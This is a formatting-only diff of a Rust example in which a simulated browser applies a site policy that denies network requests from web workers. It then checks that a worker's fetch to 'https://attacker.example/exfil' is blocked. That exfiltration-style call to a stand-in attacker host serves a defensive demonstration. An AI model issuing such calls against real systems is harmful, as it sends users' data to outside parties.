@@ -28,14 +28,24 @@ fn main() {
             PolicyRule {
                 id: "no-worker-xhr".into(),
                 on: ApiSelector::XhrSend,
-                when: Condition { from_worker: Some(true), ..Condition::default() },
-                action: PolicyAction::Deny { reason: "worker network disabled by site policy".into() },
+                when: Condition {
+                    from_worker: Some(true),
+                    ..Condition::default()
+                },
+                action: PolicyAction::Deny {
+                    reason: "worker network disabled by site policy".into(),
+                },
             },
             PolicyRule {
                 id: "no-worker-fetch".into(),
                 on: ApiSelector::Fetch,
-                when: Condition { from_worker: Some(true), ..Condition::default() },
-                action: PolicyAction::Deny { reason: "worker network disabled by site policy".into() },
+                when: Condition {
+                    from_worker: Some(true),
+                    ..Condition::default()
+                },
+                action: PolicyAction::Deny {
+                    reason: "worker network disabled by site policy".into(),
+                },
             },
         ],
     };
@@ -61,16 +71,23 @@ fn main() {
                 scope.post_message(JsValue::from("sum=42"));
                 // Denied by the custom policy: same-origin fetch from a
                 // worker (the stock kernel would have allowed this).
-                scope.fetch("https://attacker.example/exfil", None, cb(|scope, v| {
-                    scope.record("fetch_ok", v.get("ok").cloned().unwrap_or_default());
-                }));
+                scope.fetch(
+                    "https://attacker.example/exfil",
+                    None,
+                    cb(|scope, v| {
+                        scope.record("fetch_ok", v.get("ok").cloned().unwrap_or_default());
+                    }),
+                );
             }),
         );
     });
     browser.run_until_idle();
 
     println!("--- enforcement ---");
-    println!("worker fetch result: {:?}", browser.record_value("fetch_ok"));
+    println!(
+        "worker fetch result: {:?}",
+        browser.record_value("fetch_ok")
+    );
     let denied: Vec<String> = browser
         .trace()
         .facts()
